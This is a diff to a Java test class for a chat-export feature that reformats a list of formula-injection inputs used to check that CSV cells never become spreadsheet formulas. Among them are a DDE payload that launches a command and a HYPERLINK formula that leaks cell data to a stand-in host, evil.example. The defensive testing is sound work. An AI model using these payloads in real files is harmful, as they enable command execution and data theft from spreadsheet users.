@@ -27,8 +27,23 @@ class ExportFormatTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
-                "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")", "\"=1+1", "\";=1+1;\"", "'=1+1"
+                "=1+1",
+                "+1+1",
+                "-1+1",
+                "@SUM(1+1)",
+                "\t=1+1",
+                "\r=1+1",
+                "\n=1+1",
+                " =1+1",
+                "＝1+1",
+                "＋1",
+                "－1",
+                "＠SUM(1)",
+                "=cmd|' /C calc'!A0",
+                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
+                "\"=1+1",
+                "\";=1+1;\"",
+                "'=1+1"
             })
     void noCell_isAFormula(String text) throws IOException {
         String csv = write(ExportFormat.CSV, chat(text, text, 1));
@@ -49,8 +64,7 @@ class ExportFormatTest {
         List<CsvRecord> rows = rows(csv);
         assertThat(rows).hasSize(3);
         assertThat(rows.get(0).getFields())
-                .containsExactly(
-                        "seq", "sentAt", "offsetMillis", "authorId", "authorName", "badge", "text", "replyTo");
+                .containsExactly("seq", "sentAt", "offsetMillis", "authorId", "authorName", "badge", "text", "replyTo");
         assertThat(rows.get(1).getFields())
                 .containsExactly(
                         "61001", "2026-01-25T13:01:01.001Z", "61001", "7", "Name, \"quoted\"", "OWNER", HOSTILE, "3");
